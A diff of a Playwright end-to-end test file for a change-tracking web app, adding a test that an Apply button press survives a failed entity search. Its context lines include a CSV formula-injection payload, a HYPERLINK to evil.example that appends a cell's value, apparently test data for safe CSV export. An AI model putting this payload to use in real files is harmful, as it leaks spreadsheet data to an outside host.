@@ -220,3 +220,28 @@ test('newer changes are told of and do not move what one reads; the page is offe
     `CHG-9009,An e2e-newer one,"'=HYPERLINK(""https://evil.example/?x=""&A2,""Click"")\nsecond line"`,
   )
 })
+
+test('a press on Apply is not lost after an entity search that failed', async () => {
+  const { page, allow } = await openAs('support', `/changes?${DAY}`)
+  allow(/500/)
+  await cards(page).nth(2).waitFor()
+  await page.route('**/api/search_change_entity/', (route) =>
+    route.fulfill({ status: 500, contentType: 'application/problem+json', body: '{}' }),
+  )
+  await page.getByRole('textbox', { name: 'Keyword' }).fill('cluster 9002')
+  const box = page.getByRole('combobox', { name: 'CIs' })
+  await box.fill('ro')
+  await page.getByText('The search failed').last().waitFor()
+  await page.keyboard.press('Escape')
+  const apply = page.getByRole('button', { name: 'Apply' })
+  const before = await apply.boundingBox()
+  if (!before) throw new Error('Apply does not show')
+  await page.mouse.move(before.x + before.width / 2, before.y + 2)
+  await page.mouse.down()
+  // A button that is pressed goes down by a pixel.
+  expect(Math.abs(((await apply.boundingBox())?.y ?? 0) - before.y)).toBeLessThan(2)
+  await page.mouse.up()
+  await page.waitForURL(/keywords=cluster/)
+  await cards(page).nth(1).waitFor({ state: 'detached' })
+  expect(await box.inputValue()).toBe('ro')
+})
